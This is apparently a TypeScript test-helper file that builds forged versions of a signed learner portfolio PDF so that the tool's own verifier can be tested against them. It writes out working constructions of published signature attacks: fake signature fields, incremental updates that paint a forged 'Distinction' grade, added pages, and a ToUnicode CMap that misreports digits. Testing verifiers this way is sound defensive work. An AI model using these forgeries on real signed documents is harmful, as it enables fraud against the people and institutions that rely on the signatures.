// Forgeries of signed portfolios, written byte by byte the way the published attacks are
// (pdf-insecurity.org; Mainka, Mladenov, Rohlmann, Schwenk, "Shadow Attacks", NDSS 2021;
// Mladenov et al., "1 Trillion Dollar Refund", CCS 2019). They start from a PDF our tool made
// and signed. The attacker's tools are a text editor, a PDF library to read with, openssl,
// and, where a forger needs a signature of their own, our signing code. Nothing here judges a
// signature: `portfolio verify` does, and the tests ask it.
import { spawn } from "node:child_process";
import { createHash, X509Certificate } from "node:crypto";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { inflateSync } from "node:zlib";
import { PDFArray, PDFDict, PDFName, PDFNumber, PDFRawStream, PDFRef, type PDFDocument, type PDFObject } from "pdf-lib";
import { createCms } from "../../src/signing/cms.ts";
import { createIdentity, readIdentity, type Role, type SigningIdentity } from "../../src/signing/identity.ts";
import { signPdf } from "../../src/signing/sign-pdf.ts";
import { loadPdf } from "../../src/pdf/pdf-lib.ts";
import { printIds, SIGNATURE_BLOCK } from "../../src/pdf/print-ids.ts";

export type Box = [number, number, number, number];

/** What forged content says: in Helvetica, and in the page's own embedded font (which has no "G"). */
export const FORGED = "Grade: Distinction - forged";
export const FORGED_GLYPHS = "Result: Distinction - forged";

// ---------------------------------------------------------------------------------------
// Writing an incremental update by hand

/** One object as written in an update: `num gen obj`, the body, `endobj`. */
export interface PdfObject {
  num: number;
  gen?: number;
  body: string | Buffer;
}

/** A cross-reference entry written as given, rather than for an object of the update. */
export interface XrefEntry {
  num: number;
  gen?: number;
  /** Omitted with `free`. */
  offset?: number;
  free?: boolean;
}

export interface UpdateOptions {
  /** How the update's objects are found: a classic section and trailer, a cross-reference stream, or nothing (no trailer either). */
  xref?: "table" | "stream" | "none";
  /** The previous section; `null` leaves /Prev out. Defaults to the file's last startxref. */
  prev?: number | null;
  /** Trailer entries to change; `extra` is written as it is. */
  trailer?: { Root?: string; Size?: number; extra?: string };
  /** Objects written in the update but given no cross-reference entry. */
  unlisted?: number[];
  /** Entries written as given (free entries, entries pointing elsewhere); they win over the objects'. */
  entries?: XrefEntry[];
  /** What follows the final %%EOF. */
  eol?: string;
  /** A startxref other than the section's own offset; `null` writes no startxref and no %%EOF. */
  startxref?: number | null;
}

export interface Update {
  pdf: Buffer;
  /** Where each written object starts, in the order written (an object may be written twice). */
  written: Array<{ num: number; gen: number; offset: number }>;
  /** Where the update's cross-reference section starts. */
  xrefAt: number;
}

/** What the file's last trailer (or cross-reference stream dictionary) says. */
export interface Trailer {
  root: string;
  info: string | undefined;
  id: string | undefined;
  size: number;
  startxref: number;
}

export function lastTrailer(pdf: Buffer): Trailer {
  const tail = pdf.toString("latin1", Math.max(0, pdf.length - 2048));
  const pointer = [...tail.matchAll(/startxref\s+(\d+)/g)].at(-1);
  if (!pointer) throw new Error("the PDF does not end with a startxref");
  const startxref = Number(pointer[1]);
  const section = pdf.toString("latin1", startxref, Math.min(pdf.length, startxref + 400_000));
  const dict = section.startsWith("xref")
    ? /trailer\s*<<([\s\S]*?)>>\s*startxref/.exec(section)?.[1]
    : /^\d+\s+\d+\s+obj\s*<<([\s\S]*?)>>\s*stream/.exec(section)?.[1];
  if (dict === undefined) throw new Error(`no trailer at ${startxref}`);
  const get = (pattern: RegExp) => pattern.exec(dict)?.[1];
  return {
    root: get(/\/Root\s+(\d+\s+\d+\s+R)/) ?? "",
    info: get(/\/Info\s+(\d+\s+\d+\s+R)/),
    id: get(/\/ID\s*(\[[^\]]*\])/),
    size: Number(get(/\/Size\s+(\d+)/) ?? 0),
    startxref,
  };
}

/** A stream object's body: its dictionary with /Length, then the data. */
export function stream(dict: string, data: string | Buffer): Buffer {
  const bytes = typeof data === "string" ? Buffer.from(data, "latin1") : data;
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`, "latin1"), bytes, Buffer.from("\nendstream", "latin1")]);
}

function contiguous(nums: number[]): Array<[number, number]> {
  const runs: Array<[number, number]> = [];
  for (let i = 0; i < nums.length; ) {
    let j = i;
    while (j + 1 < nums.length && nums[j + 1] === nums[j]! + 1) j++;
    runs.push([i, j]);
    i = j + 1;
  }
  return runs;
}

/** A classic cross-reference section for the entries, with entry 0 if missing. */
export function xrefTable(entries: Iterable<XrefEntry>): string {
  const byNum = new Map<number, XrefEntry>([[0, { num: 0, free: true, gen: 65535 }]]);
  for (const e of entries) byNum.set(e.num, e);
  const lines = [...byNum.values()].sort((a, b) => a.num - b.num);
  let text = "xref\n";
  for (const [i, j] of contiguous(lines.map((e) => e.num))) {
    text += `${lines[i]!.num} ${j - i + 1}\n`;
    for (const e of lines.slice(i, j + 1)) text += `${String(e.free ? 0 : e.offset).padStart(10, "0")} ${String(e.gen ?? (e.free ? 1 : 0)).padStart(5, "0")} ${e.free ? "f" : "n"} \n`;
  }
  return text;
}

/**
 * Appends an incremental update: the objects, a cross-reference section for them (classic or
 * a stream, or none), a trailer pointing back with /Prev, startxref and %%EOF, all as given.
 */
export function appendUpdate(pdf: Buffer, objects: readonly PdfObject[], options: UpdateOptions = {}): Update {
  const before = lastTrailer(pdf);
  const parts: Buffer[] = [pdf];
  let at = pdf.length;
  const add = (bytes: Buffer | string) => {
    const buffer = typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes;
    parts.push(buffer);
    at += buffer.length;
  };
  if (pdf[pdf.length - 1] !== 0x0a && pdf[pdf.length - 1] !== 0x0d) add("\n");
  const written: Update["written"] = [];
  for (const object of objects) {
    written.push({ num: object.num, gen: object.gen ?? 0, offset: at });
    add(`${object.num} ${object.gen ?? 0} obj\n`);
    add(object.body);
    add("\nendobj\n");
  }
  const unlisted = new Set(options.unlisted ?? []);
  const entries = new Map<number, XrefEntry>();
  // The last copy written is the one listed, unless an entry says otherwise.
  for (const w of written) if (!unlisted.has(w.num)) entries.set(w.num, { num: w.num, gen: w.gen, offset: w.offset });
  for (const e of options.entries ?? []) entries.set(e.num, e);
  const maxNum = Math.max(before.size - 1, ...entries.keys());
  const prev = options.prev === undefined ? before.startxref : options.prev;
  const trailer = (size: number) =>
    [
      `/Size ${options.trailer?.Size ?? size}`,
      `/Root ${options.trailer?.Root ?? before.root}`,
      before.info ? `/Info ${before.info}` : "",
      before.id ? `/ID ${before.id}` : "",
      prev === null ? "" : `/Prev ${prev}`,
      options.trailer?.extra ?? "",
    ].filter(Boolean).join(" ");
  const xrefAt = at;
  const mode = options.xref ?? "table";
  if (mode === "table") {
    add(`${xrefTable(entries.values())}trailer\n<< ${trailer(maxNum + 1)} >>\n`);
  } else if (mode === "stream") {
    const self = maxNum + 1;
    entries.set(self, { num: self, offset: xrefAt });
    const lines = [...entries.values()].sort((a, b) => a.num - b.num);
    const index: number[] = [];
    const rows: Buffer[] = [];
    for (const [i, j] of contiguous(lines.map((e) => e.num))) {
      index.push(lines[i]!.num, j - i + 1);
      for (const e of lines.slice(i, j + 1)) {
        const row = Buffer.alloc(7);
        row[0] = e.free ? 0 : 1;
        row.writeUInt32BE(e.free ? 0 : e.offset!, 1);
        row.writeUInt16BE(Math.min(e.gen ?? 0, 65535), 5);
        rows.push(row);
      }
    }
    add(`${self} 0 obj\n`);
    add(stream(`/Type /XRef ${trailer(self + 1)} /W [1 4 2] /Index [${index.join(" ")}]`, Buffer.concat(rows)));
    add("\nendobj\n");
  }
  if (options.startxref !== null) add(`startxref\n${options.startxref ?? xrefAt}\n%%EOF${options.eol ?? "\n"}`);
  return { pdf: Buffer.concat(parts), written, xrefAt };
}

/** Where each object of the file's current revision starts, as qpdf reads the cross-reference data. */
export async function objectOffsets(file: string): Promise<Map<number, number>> {
  const { stdout } = await run("qpdf", ["--show-xref", file]);
  return new Map([...stdout.matchAll(/^(\d+)\/0: uncompressed; offset = (\d+)/gm)].map((m) => [Number(m[1]), Number(m[2])]));
}

// ---------------------------------------------------------------------------------------
// Signatures, as bytes

/** One signature dictionary as our signing code writes it: where its ranges and value are. */
export interface SignatureBytes {
  byteRange: [number, number, number, number];
  /** Where `/ByteRange [` starts. */
  byteRangeAt: number;
  /** The `<` of /Contents and the position after its `>`. */
  contentsAt: number;
  contentsEnd: number;
  hex: string;
}

export function signaturesIn(pdf: Buffer): SignatureBytes[] {
  const text = pdf.toString("latin1");
  return [...text.matchAll(/\/ByteRange \[(\d+) (\d+) (\d+) (\d+)\s*\]/g)].map((m) => {
    const contentsAt = text.indexOf("<", text.indexOf("/Contents", m.index));
    const contentsEnd = text.indexOf(">", contentsAt) + 1;
    return {
      byteRange: [Number(m[1]), Number(m[2]), Number(m[3]), Number(m[4])],
      byteRangeAt: m.index,
      contentsAt,
      contentsEnd,
      hex: text.slice(contentsAt + 1, contentsEnd - 1),
    };
  });
}

/** A byte-range placeholder of fixed width, filled in by `fillByteRange` once the file is written. */
export const BYTE_RANGE_SLOT = `/ByteRange [0 ${"0".repeat(10)} ${"0".repeat(10)} ${"0".repeat(10)}]`;

/**
 * Fills the last byte-range placeholder with ranges around the /Contents that follows it, and,
 * given an identity, signs them: what a signing tool does, used where a case needs a revision
 * our own writer would not make, such as one ending `%%EOF` with no newline after it.
 */
export async function fillByteRange(pdf: Buffer, identity?: SigningIdentity): Promise<Buffer> {
  const out = Buffer.from(pdf);
  const at = out.lastIndexOf("/ByteRange [0 ");
  const slot = out.indexOf("]", at) + 1 - at;
  const contentsAt = out.indexOf("<", out.indexOf("/Contents", at));
  const contentsEnd = out.indexOf(">", contentsAt) + 1;
  const ranges = [0, contentsAt, contentsEnd, out.length - contentsEnd];
  const written = `/ByteRange [${ranges.map((n, i) => (i === 0 ? "0" : String(n).padStart(10, "0"))).join(" ")}]`;
  if (written.length > slot) throw new Error("the byte ranges do not fit their placeholder");
  out.write(written.padEnd(slot, " "), at, "latin1");
  if (!identity) return out;
  out.fill("0", contentsAt + 1, contentsEnd - 1, "latin1");
  const cms = await createCms([out.subarray(0, contentsAt), out.subarray(contentsEnd)], identity);
  out.write(Buffer.from(cms).toString("hex"), contentsAt + 1, "latin1");
  return out;
}

// ---------------------------------------------------------------------------------------
// The signed portfolio every forgery starts from

export interface Signer {
  role: Role;
  name: string;
  p12: string;
  pem: string;
  identity: SigningIdentity;
  passphrase: string;
}

/** What the attacker reads from the portfolio: object numbers and places an attack aims at. */
export interface PortfolioFacts {
  root: number;
  pages: number;
  /** The declaration page (page 2), where the signatures are. */
  declaration: {
    page: number;
    /** Its last content stream, which draws the footer after everything else on the page. */
    footer: number;
    /** The stream that draws the declaration's text. */
    body: number;
    /** The page's embedded font: its resource name, number and ToUnicode CMap. */
    font: { name: string; num: number; toUnicode: number };
    boxes: Record<Role, Box>;
  };
  /** A reflection's page and one line of its text, with the line's box. */
  reflection: { page: number; pageNumber: number; line: string; box: Box };
}

export interface Portfolio {
  dir: string;
  /** `portfolio pdf`, then `portfolio sign` as learner, assessor and IQA in turn. */
  unsigned: Buffer;
  learner: Buffer;
  assessor: Buffer;
  iqa: Buffer;
  files: { unsigned: string; learner: string; assessor: string; iqa: string };
  signers: Record<Role, Signer>;
  facts: PortfolioFacts;
}

export type Cli = (args: string[]) => Promise<Run>;

const PEOPLE: Record<Role, string> = { learner: "Priya Shah", assessor: "Daniel Okafor", iqa: "Ruth Mensah" };
export const REFLECTION_LINE = { page: 7, line: "The honest answer is that my network is mostly internal and mostly reactive. Its best" };

/** Makes the portfolio PDF with the CLI and signs it as learner, assessor and IQA with the CLI. */
export async function signedPortfolio(cli: Cli, dir: string, passphrase: string): Promise<Portfolio> {
  const files = { unsigned: join(dir, "unsigned.pdf"), learner: join(dir, "learner.pdf"), assessor: join(dir, "assessor.pdf"), iqa: join(dir, "iqa.pdf") };
  const printing = cli(["pdf", "--out", files.unsigned]);
  const signers = {} as Record<Role, Signer>;
  for (const role of ["learner", "assessor", "iqa"] as const) signers[role] = await signer(PEOPLE[role], role, dir, passphrase);
  const expectOk = (what: string, result: Run) => {
    if (result.status !== 0) throw new Error(`${what} failed: ${result.stderr}`);
  };
  expectOk("portfolio pdf", await printing);
  expectOk("signing as learner", await cli(["sign", files.unsigned, "--key", signers.learner.p12, "--out", files.learner]));
  expectOk("signing as assessor", await cli(["sign", files.learner, "--key", signers.assessor.p12, "--out", files.assessor]));
  expectOk("signing as IQA", await cli(["sign", files.assessor, "--key", signers.iqa.p12, "--out", files.iqa]));
  const [unsigned, learner, assessor, iqa] = await Promise.all([readFile(files.unsigned), readFile(files.learner), readFile(files.assessor), readFile(files.iqa)]);
  return { dir, unsigned, learner, assessor, iqa, files, signers, facts: await portfolioFacts(unsigned, files.unsigned) };
}

/** A key made by the code `portfolio keygen` runs, read back as the signing code reads it. */
export async function signer(name: string, role: Role, dir: string, passphrase: string): Promise<Signer> {
  const base = join(dir, `${name.toLowerCase().replace(/\W+/g, "-")}-${role}`);
  const p12 = `${base}.p12`;
  await writeFile(p12, createIdentity({ name, role, passphrase }));
  const identity = readIdentity(await readFile(p12), passphrase, p12);
  const pem = `${base}.pem`;
  await writeFile(pem, new X509Certificate(identity.certificate).toString());
  return { role, name, p12, pem, identity, passphrase };
}

const N = (name: string) => PDFName.of(name);
const refNumber = (value: PDFObject | undefined) => (value instanceof PDFRef ? value.objectNumber : -1);

async function portfolioFacts(pdf: Buffer, file: string): Promise<PortfolioFacts> {
  const doc = await loadPdf(pdf);
  const pages = doc.getPages();
  const declaration = pages[1]!;
  const contents = declaration.node.get(N("Contents")) as PDFArray;
  const fonts = declaration.node.Resources()!.lookup(N("Font"), PDFDict);
  const [fontName, fontRef] = fonts.entries()[0]!;
  const font = doc.context.lookup(fontRef as PDFRef, PDFDict);
  const boxes = Object.fromEntries((["learner", "assessor", "iqa"] as const).map((role) => [role, signatureBox(doc, role)])) as Record<Role, Box>;
  return {
    root: refNumber(doc.context.trailerInfo.Root),
    pages: refNumber(doc.catalog.get(N("Pages"))),
    declaration: {
      page: declaration.ref.objectNumber,
      footer: refNumber(contents.get(contents.size() - 1)),
      body: refNumber(contents.get(1)),
      font: { name: fontName.decodeText(), num: (fontRef as PDFRef).objectNumber, toUnicode: refNumber(font.get(N("ToUnicode"))) },
      boxes,
    },
    reflection: { page: pages[REFLECTION_LINE.page - 1]!.ref.objectNumber, pageNumber: REFLECTION_LINE.page, line: REFLECTION_LINE.line, box: await lineBox(file, REFLECTION_LINE.page, REFLECTION_LINE.line) },
  };
}

/** A role's box on the declaration page, found as the signing code finds it. */
function signatureBox(doc: PDFDocument, role: Role): Box {
  const dest = doc.catalog.lookup(N("Dests"), PDFDict).lookup(N(printIds.signature(role)), PDFArray);
  const top = (dest.lookup(3) as PDFNumber).asNumber() - SIGNATURE_BLOCK.margin;
  return [SIGNATURE_BLOCK.margin, top - SIGNATURE_BLOCK.height, 595.92 - SIGNATURE_BLOCK.margin, top];
}

/** The box of the line of text starting with `start` on a page, in PDF coordinates, as pdftotext places it. */
async function lineBox(file: string, page: number, start: string): Promise<Box> {
  const { stdout } = await run("pdftotext", ["-bbox-layout", "-f", String(page), "-l", String(page), file, "-"]);
  const height = Number(/<page width="[\d.]+" height="([\d.]+)"/.exec(stdout)?.[1]);
  for (const m of stdout.matchAll(/<line xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([\s\S]*?)<\/line>/g)) {
    const words = [...m[5]!.matchAll(/>([^<]*)<\/word>/g)].map((w) => w[1]).join(" ");
    if (words.startsWith(start.slice(0, 40))) return [Number(m[1]), height - Number(m[4]), Number(m[3]), height - Number(m[2])];
  }
  throw new Error(`no line "${start}" on page ${page}`);
}

// ---------------------------------------------------------------------------------------
// Reading and rewriting objects, as an attacker with a PDF library would

const loaded = new WeakMap<Buffer, Promise<PDFDocument>>();
function load(pdf: Buffer): Promise<PDFDocument> {
  if (!loaded.has(pdf)) loaded.set(pdf, loadPdf(pdf));
  return loaded.get(pdf)!;
}

/** The next object number free in the file. */
export function nextNumber(pdf: Buffer): number {
  return lastTrailer(pdf).size;
}

/** An object's dictionary as the file's last revision has it, with entries set or removed, as text. */
export async function changedDict(pdf: Buffer, num: number, changes: Record<string, string | undefined> = {}): Promise<string> {
  const doc = await load(pdf);
  const found = doc.context.lookup(PDFRef.of(num));
  const dict = (found instanceof PDFRawStream ? found.dict : found) as PDFDict;
  const entries = dict.entries().filter(([key]) => !(key.decodeText() in changes)).map(([key, value]) => `${key.toString()} ${value.toString()}`);
  for (const [key, value] of Object.entries(changes)) if (value !== undefined) entries.push(`/${key} ${value}`);
  return `<< ${entries.join(" ")} >>`;
}

/** An object's body as the file's last revision has it, exactly. */
export async function objectBody(pdf: Buffer, num: number): Promise<Buffer> {
  const found = (await load(pdf)).context.lookup(PDFRef.of(num));
  if (found instanceof PDFRawStream) return Buffer.concat([Buffer.from(`${found.dict.toString()}\nstream\n`, "latin1"), Buffer.from(found.contents), Buffer.from("\nendstream", "latin1")]);
  return Buffer.from(found!.toString(), "latin1");
}

/** A stream object's decoded data as the file's last revision has it. */
export async function streamData(pdf: Buffer, num: number): Promise<Buffer> {
  const found = (await load(pdf)).context.lookup(PDFRef.of(num)) as PDFRawStream;
  return found.dict.get(N("Filter"))?.toString() === "/FlateDecode" ? inflateSync(found.contents) : Buffer.from(found.contents);
}

/** The references in an array entry of an object (direct or indirect array), as text. */
async function arrayItems(pdf: Buffer, num: number, key: string): Promise<string[]> {
  const doc = await load(pdf);
  const dict = doc.context.lookup(PDFRef.of(num), PDFDict);
  const array = dict.lookup(N(key));
  return array instanceof PDFArray ? array.asArray().map(String) : [];
}

/**
 * A page rewritten to also draw `content` (Helvetica is resource /Fh, the stream is `next`,
 * the font `next + 1`) and to list `annots` among its annotations: the page, then its new
 * stream and font. `as` writes it as another object, with the entries in `set` replaced.
 */
export async function pageDrawing(pdf: Buffer, page: number, next: number, content: string | undefined, options: { annots?: number[]; as?: number; set?: Record<string, string> } = {}): Promise<PdfObject[]> {
  const doc = await load(pdf);
  const dict = doc.context.lookup(PDFRef.of(page), PDFDict).clone(doc.context);
  const objects: PdfObject[] = [];
  if (content !== undefined) {
    const contents = dict.lookup(N("Contents"));
    const list = contents instanceof PDFArray ? contents.clone(doc.context) : doc.context.obj([dict.get(N("Contents"))!]);
    list.push(PDFRef.of(next));
    dict.set(N("Contents"), list);
    const resources = dict.lookup(N("Resources"), PDFDict).clone(doc.context);
    const fonts = resources.lookup(N("Font"), PDFDict).clone(doc.context);
    fonts.set(N("Fh"), PDFRef.of(next + 1));
    resources.set(N("Font"), fonts);
    dict.set(N("Resources"), resources);
    objects.push({ num: next, body: stream("", content) }, { num: next + 1, body: HELVETICA });
  }
  if (options.annots?.length) {
    const existing = await arrayItems(pdf, page, "Annots");
    dict.set(N("Annots"), doc.context.obj([...existing.map((r) => PDFRef.of(Number(r.split(" ")[0]))), ...options.annots.map((n) => PDFRef.of(n))]));
  }
  const set = options.set ?? {};
  const entries = dict.entries().filter(([key]) => !(key.decodeText() in set)).map(([key, value]) => `${key.toString()} ${value.toString()}`);
  for (const [key, value] of Object.entries(set)) entries.push(`/${key} ${value}`);
  return [{ num: options.as ?? page, body: `<< ${entries.join(" ")} >>` }, ...objects];
}

/** The form's field list with fields added: the AcroForm dictionary rewritten. */
export async function formWithFields(pdf: Buffer, fields: number[]): Promise<PdfObject> {
  const doc = await load(pdf);
  const form = doc.catalog.get(N("AcroForm")) as PDFRef;
  const existing = await arrayItems(pdf, form.objectNumber, "Fields");
  return { num: form.objectNumber, body: await changedDict(pdf, form.objectNumber, { Fields: `[${[...existing, ...fields.map((n) => `${n} 0 R`)].join(" ")}]` }) };
}

// ---------------------------------------------------------------------------------------
// Painting

/** A PDF literal string in WinAnsi. */
export function literal(text: string): string {
  return `(${text.replace(/[\\()]/g, (c) => `\\${c}`)})`;
}

/** Content that paints `lines` in Helvetica (resource /Fh) inside `box`, from its lower left. */
export function paintText(box: Box, lines: string[], options: { size?: number; from?: number; color?: string } = {}): string {
  const size = options.size ?? 10;
  const from = options.from ?? 14 + (lines.length - 1) * (size + 4);
  return `q BT /Fh ${size} Tf ${options.color ?? "0 0.2 0.5"} rg ${lines.map((line, i) => `1 0 0 1 ${(box[0] + 14).toFixed(2)} ${(box[1] + from - i * (size + 4)).toFixed(2)} Tm ${literal(line)} Tj`).join(" ")} ET Q`;
}

export const HELVETICA = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>";

/** A form XObject of a box's size that paints `content` with Helvetica as /Fh. */
export function appearance(box: Box, content: string, font: number): Buffer {
  return stream(`/Type /XObject /Subtype /Form /BBox [0 0 ${(box[2] - box[0]).toFixed(2)} ${(box[3] - box[1]).toFixed(2)}] /Resources << /Font << /Fh ${font} 0 R >> >>`, content);
}

/** A box's lines as a signature's appearance draws them, relative to the box. */
export function signedLines(name: string, role: string, date = new Date()): string[] {
  return [`Digitally signed by ${name}`, role, `Date: ${date.toISOString().slice(0, 10)}`];
}

/** A box moved to the origin: an appearance's own coordinates. */
export function relative(box: Box): Box {
  return [0, 0, box[2] - box[0], box[3] - box[1]];
}

/** A box as a PDF rectangle. */
export function rect(box: Box): string {
  return `[${box.map((n) => n.toFixed(2)).join(" ")}]`;
}

/**
 * Text shown with the page's own embedded font (an Identity-H subset): each character is
 * mapped back to its glyph through the font's ToUnicode CMap, so only characters the
 * portfolio already uses can be written.
 */
export function glyphString(toUnicodeCMap: string, text: string): string {
  const byChar = new Map<string, number>();
  const hex = (s: string) => Number.parseInt(s, 16);
  for (const m of toUnicodeCMap.matchAll(/beginbfchar([\s\S]*?)endbfchar/g)) {
    for (const pair of m[1]!.matchAll(/<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>/g)) byChar.set(String.fromCharCode(hex(pair[2]!)), hex(pair[1]!));
  }
  for (const m of toUnicodeCMap.matchAll(/beginbfrange([\s\S]*?)endbfrange/g)) {
    for (const r of m[1]!.matchAll(/<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>/g)) {
      for (let g = hex(r[1]!); g <= hex(r[2]!); g++) byChar.set(String.fromCharCode(hex(r[3]!) + g - hex(r[1]!)), g);
    }
  }
  return `<${[...text].map((c) => {
    const glyph = byChar.get(c);
    if (glyph === undefined) throw new Error(`the page's font has no glyph for "${c}"`);
    return glyph.toString(16).padStart(4, "0");
  }).join("")}>`;
}

/** Page 2's footer stream drawing `text` in the assessor's box too, with the page's own font. */
export async function forgedFooter(pdf: Buffer, facts: PortfolioFacts, text = FORGED_GLYPHS): Promise<Buffer> {
  const { footer, font, boxes } = facts.declaration;
  const cmap = (await streamData(pdf, font.toUnicode)).toString("latin1");
  const [x, y] = boxes.assessor;
  const drawing = `\nq BT /${font.name} 12 Tf 0.6 0 0 rg 1 0 0 1 ${(x + 14).toFixed(2)} ${(y + 22).toFixed(2)} Tm ${glyphString(cmap, text)} Tj ET Q\n`;
  return stream("", Buffer.concat([await streamData(pdf, footer), Buffer.from(drawing, "latin1")]));
}

/** The page's ToUnicode CMap with every digit read as 9 minus itself: the text layer lies, the glyphs do not change. */
export async function lyingCMap(pdf: Buffer, facts: PortfolioFacts): Promise<Buffer> {
  const cmap = (await streamData(pdf, facts.declaration.font.toUnicode)).toString("latin1");
  const digits = glyphString(cmap, "0123456789").slice(1, -1).match(/.{4}/g)!;
  const swapped = `${digits.length} beginbfchar\n${digits.map((g, d) => `<${g}> <${(0x39 - d).toString(16).padStart(4, "0")}>`).join("\n")}\nendbfchar\nendcmap`;
  return stream("", cmap.replace("endcmap", swapped));
}

// ---------------------------------------------------------------------------------------
// Running the outside judges

export interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
}

/** Runs a program without blocking, so cases can be judged side by side. */
export function run(command: string, args: string[], options: { cwd?: string; env?: Record<string, string> } = {}): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, { cwd: options.cwd, env: { ...process.env, NO_COLOR: "1", ...options.env } });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on("data", (d: Buffer) => out.push(d));
    child.stderr.on("data", (d: Buffer) => err.push(d));
    child.on("error", reject);
    child.on("close", (status) => resolve({ status, stdout: Buffer.concat(out).toString("utf8"), stderr: Buffer.concat(err).toString("utf8") }));
  });
}

/** pdfsig's verdict on each signature, in a line: `learner: Signature is Valid. (total)`. */
export async function pdfsigVerdict(file: string): Promise<string> {
  const { stdout, stderr } = await run("pdfsig", [file]);
  const blocks = stdout.split(/^Signature #\d+:$/m).slice(1);
  if (blocks.length === 0) return (/does not contain any signatures/.exec(stdout)?.[0] ?? stderr.trim().split("\n")[0] ?? "no signatures").slice(0, 80);
  return blocks.map((b) => {
    const field = /Signature Field Name: (.*)/.exec(b)?.[1]?.trim() ?? "?";
    const verdict = /Signature Validation: (.*)/.exec(b)?.[1]?.trim() ?? (b.includes("not signed") ? "not signed" : "unreadable");
    return `${field.slice(0, 12)}: ${verdict}${b.includes("Total document signed") ? " (total)" : ""}`;
  }).join("; ");
}

/** A page's text in content order, as pdftotext reads it (annotations' appearances included). */
export async function pageText(file: string, page: number): Promise<string> {
  return (await run("pdftotext", ["-raw", "-f", String(page), "-l", String(page), file, "-"])).stdout;
}

/** A digest of a page as pdftoppm renders it, annotations included. */
export async function pageRender(file: string, page: number): Promise<string> {
  const child = spawn("pdftoppm", ["-r", "40", "-gray", "-f", String(page), "-l", String(page), file]);
  const chunks: Buffer[] = [];
  child.stdout.on("data", (d: Buffer) => chunks.push(d));
  child.stderr.resume();
  await new Promise((resolve) => child.on("close", resolve));
  return createHash("sha256").update(Buffer.concat(chunks)).digest("hex");
}

/** The forger signs with our signing code: the attacker's tool, not a judge. */
export async function forgerSigns(pdf: Buffer, role: Role, identity: SigningIdentity, date = new Date()): Promise<Buffer> {
  return Buffer.from(await signPdf(pdf, { role, identity, date }));
}

/** The entries of the classic cross-reference section at `at`. */
export function xrefSection(pdf: Buffer, at: number): XrefEntry[] {
  const text = pdf.toString("latin1", at, pdf.indexOf("trailer", at));
  const entries: XrefEntry[] = [];
  let num = 0;
  for (const line of text.split(/\r?\n|\r/).slice(1)) {
    const head = /^(\d+) (\d+)$/.exec(line.trim());
    const entry = /^(\d{10}) (\d{5}) ([nf])/.exec(line);
    if (head) num = Number(head[1]);
    else if (entry) entries.push({ num: num++, gen: Number(entry[2]), ...(entry[3] === "f" ? { free: true } : { offset: Number(entry[1]) }) });
  }
  return entries;
}

// =======================================================================================
// The forgeries, by the class of attack that publishes them

const pdfDate = (date: Date) => `(D:${date.toISOString().replace(/[-:T]/g, "").slice(0, 14)}Z)`;

// --- USF: universal signature forgery ----------------------------------------------------

/**
 * The unsigned portfolio with forged content and a learner's signature field whose signature
 * dictionary holds `entries` (a /ByteRange and /Contents that cannot be checked), with an
 * appearance reading "Digitally signed by Priya Shah": a reader that trusts the field's
 * presence shows a signed document.
 */
export async function universalForgery(p: Portfolio, entries: string): Promise<Buffer> {
  const pdf = p.unsigned;
  const { page, boxes } = p.facts.declaration;
  const n = nextNumber(pdf);
  const [sig, widget, ap, font, form] = [n, n + 1, n + 2, n + 3, n + 4];
  const objects: PdfObject[] = [
    ...(await pageDrawing(pdf, page, n + 5, paintText(boxes.assessor, [FORGED], { color: "0.6 0 0" }), { annots: [widget] })),
    { num: sig, body: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached ${entries} /M ${pdfDate(new Date())} /Name (Priya Shah) /Reason (Learner's signature on the portfolio) >>` },
    { num: widget, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (learner) /V ${sig} 0 R /F 132 /P ${page} 0 R /Rect ${rect(boxes.learner)} /AP << /N ${ap} 0 R >> >>` },
    { num: ap, body: appearance(boxes.learner, paintText(relative(boxes.learner), signedLines("Priya Shah", "Learner")), font) },
    { num: font, body: HELVETICA },
    { num: form, body: `<< /Fields [${widget} 0 R] /SigFlags 3 >>` },
    { num: p.facts.root, body: await changedDict(pdf, p.facts.root, { AcroForm: `${form} 0 R` }) },
  ];
  const out = appendUpdate(pdf, objects).pdf;
  return entries.includes(BYTE_RANGE_SLOT) ? fillByteRange(out) : out;
}

// --- ISA: incremental saving attack ------------------------------------------------------

/** An update that replaces page 2's footer stream with one that also draws the forged result. */
export async function contentChanged(pdf: Buffer, facts: PortfolioFacts, options: UpdateOptions = {}): Promise<Buffer> {
  return appendUpdate(pdf, [{ num: facts.declaration.footer, body: await forgedFooter(pdf, facts) }], options).pdf;
}

/** An update that adds a page giving the assessor's decision. */
export async function pageAdded(pdf: Buffer, facts: PortfolioFacts): Promise<Buffer> {
  const n = nextNumber(pdf);
  const kids = await arrayItems(pdf, facts.pages, "Kids");
  const lines = ["Assessor's decision", FORGED, "Daniel Okafor, Assessor"];
  return appendUpdate(pdf, [
    { num: facts.pages, body: await changedDict(pdf, facts.pages, { Kids: `[${[...kids, `${n} 0 R`].join(" ")}]`, Count: String(kids.length + 1) }) },
    { num: n, body: `<< /Type /Page /Parent ${facts.pages} 0 R /MediaBox [0 0 595.92 841.92] /Resources << /Font << /Fh ${n + 2} 0 R >> >> /Contents ${n + 1} 0 R >>` },
    { num: n + 1, body: stream("", paintText([50, 600, 545, 760], lines, { size: 16 })) },
    { num: n + 2, body: HELVETICA },
  ]).pdf;
}

/** An update that gives page 2's font a ToUnicode CMap reading every digit as 9 minus itself. */
export async function fontReplaced(pdf: Buffer, facts: PortfolioFacts): Promise<Buffer> {
  const n = nextNumber(pdf);
  const { font } = facts.declaration;
  return appendUpdate(pdf, [
    { num: font.num, body: await changedDict(pdf, font.num, { ToUnicode: `${n} 0 R` }) },
    { num: n, body: await lyingCMap(pdf, facts) },
  ]).pdf;
}

/** An update that adds an annotation to page 2 whose appearance paints `lines` in the assessor's box. */
